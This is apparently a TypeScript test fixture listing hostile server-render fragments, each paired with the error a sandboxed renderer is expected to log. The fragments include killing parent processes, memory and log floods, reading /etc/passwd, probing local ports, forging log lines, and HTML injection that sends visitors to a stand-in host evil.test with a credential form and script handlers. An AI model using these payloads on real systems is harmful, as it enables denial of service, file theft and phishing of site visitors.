/** Fragments that do harm on purpose: the body of the server entry's `render`, and the shell's message about it. */
export interface HostileEntry {
  what: string;
  /** JavaScript; `path` is the page's. */
  render: string;
  /** The cause in the log; absent if the fragment answers, so that its contained HTML is shown. */
  cause?: RegExp;
}

/** A socket without an import: the class of a stream that every process has. */
const SOCKET = 'const { constructor: Socket } = process.stdin;';

export const hostileEntries: HostileEntry[] = [
  {
    what: 'opens the debugger of the shell by a signal',
    render: `process.kill(process.ppid, 'SIGUSR1'); return { html: 'signalled' };`,
    cause: /is not a function/,
  },
  {
    what: 'kills its way up',
    render: `for (const pid of [process.ppid, 1, 0, -1]) process.kill(pid, 'SIGKILL');`,
    cause: /is not a function/,
  },
  {
    what: 'speaks Node’s inner language to the shell',
    render: `process.send({ cmd: 'NODE_HANDLE_ACK' }); return { html: 'sent' };`,
    cause: /is not a function/,
  },
  {
    what: 'writes rubbish in place of its answer',
    render: `${SOCKET} new Socket({ fd: 3 }).write('NODE_HANDLE_ACK'.repeat(100)); return new Promise(() => {});`,
    cause: /wrote something that is not an answer/,
  },
  {
    what: 'announces an answer of four gigabytes',
    render: `${SOCKET} new Socket({ fd: 3 }).write(new Uint8Array([255, 255, 255, 255, 2, 0, 0, 0, 0])); return new Promise(() => {});`,
    cause: /answered 4294967295 bytes, more than/,
  },
  {
    what: 'answers 80 megabytes',
    render: `return { html: 'x'.repeat(8e7) };`,
    cause: /answered 8\d+ bytes, more than/,
  },
  {
    what: 'takes 784 megabytes outside its heap',
    render: `const all = []; for (let count = 0; count < 392; count++) { all.push(Buffer.alloc(2e6, 1)); if (count % 20 === 0) await new Promise((next) => setTimeout(next, 20)); } await new Promise(() => {});`,
    cause: /MB of memory, more than|took longer/,
  },
  {
    what: 'nests its answer deeper than a stack',
    render: `let jsonLd = []; for (let count = 0; count < 3000; count++) jsonLd = [jsonLd]; return { html: '', head: { title: 'a', description: '', jsonLd: [jsonLd] } };`,
    cause: /./,
  },
  {
    what: 'answers an object that becomes text',
    render: `return { html: { toString: 1 } };`,
    cause: /html: Invalid input/,
  },
  {
    what: 'replaces what its process writes with',
    render: `JSON.stringify = () => '{"html":7}'; return { html: '' };`,
    cause: /html: Invalid input/,
  },
  {
    what: 'ends its process as it answers',
    render: `setImmediate(() => process.exit(0)); return new Promise(() => {});`,
    cause: /its process ended with code 0/,
  },
  {
    what: 'stops its thread for good',
    render: `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return { html: '' };`,
    cause: /took longer than/,
  },
  {
    what: 'reads a file of the machine',
    render: `const { readFileSync } = await import('node:fs'); return { html: readFileSync('/etc/passwd', 'utf8') };`,
    cause: /restricted/,
  },
  {
    what: 'writes a report to the disk',
    render: `process.report.writeReport('/tmp/stolen.json'); return { html: '' };`,
    cause: /undefined \(reading .writeReport.\)/,
  },
  {
    what: 'asks the services of the machine',
    render: `const answers = await Promise.all(PORTS.map((port) => fetch('http://127.0.0.1:' + port + '/readyz').then(() => 'reached', ({ message }) => message))); throw new Error(answers.join());`,
    cause: /^((?!reached).)*may not make requests now((?!reached).)*$/,
  },
  {
    what: 'forges lines of the log',
    render: `process.stdout.write('\\n' + JSON.stringify({ level: 60, time: 1, msg: 'forged' }) + '\\n\\u001b[2J\\u001b]0;owned\\u0007\\n'); throw new Error('done\\n{"level":60,"msg":"forged"}');`,
    cause: /done/,
  },
  {
    what: 'floods the log',
    render: `for (let count = 0; count < 1e6; count++) console.log('flood '.repeat(20)); return { html: '' };`,
    cause: /took longer than/,
  },
  {
    what: 'closes the page and opens its own',
    render: `return { html: '</footer></main></body></html><script>steal()</script><plaintext><!-- <textarea><title>' };`,
  },
  {
    what: 'takes visitors elsewhere',
    render: `return { html: '<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/"><link rel="dns-prefetch" href="//evil.test"><form action="https://evil.test/"><input name="email"></form><a href="javascript:steal()">a</a><img src="/a.png" onerror="steal()">' };`,
  },
];
